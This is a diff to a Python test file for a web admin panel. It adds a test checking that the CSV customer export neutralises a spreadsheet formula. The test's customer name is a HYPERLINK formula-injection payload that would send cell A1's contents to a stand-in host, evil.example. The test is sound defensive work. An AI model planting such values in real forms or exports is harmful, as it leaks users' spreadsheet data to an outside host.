@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import io
+
 from tests.web.admin.conftest import Desk, Panel
 from tests.web.admin.matrix import READ, WRITE, assert_matrix, customer
 
@@ -24,6 +27,15 @@ def test_register_a_customer_and_find_them(stored_desk: Desk) -> None:
     assert response.status_code == 302
     page = agent.get("/admin/customers/?search=globex").get_data(as_text=True)
     assert "Globex Ltd" in page and "buyers@globex.example" in page
+
+
+def test_a_name_typed_as_a_formula_is_exported_as_text(stored_desk: Desk) -> None:
+    panel, agent = stored_desk
+    name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    panel.services.app.register_customer(name=name, occurred_at=panel.clock.now(), actor="system:public-form")
+    panel.catch_up()
+    rows = list(csv.DictReader(io.StringIO(agent.get("/admin/customers/export/csv/?search=evil").get_data(as_text=True))))
+    assert [row["Name"] for row in rows] == ["'" + name]
 
 
 def test_a_bad_email_is_shown_on_the_email_field(panel: Panel) -> None:
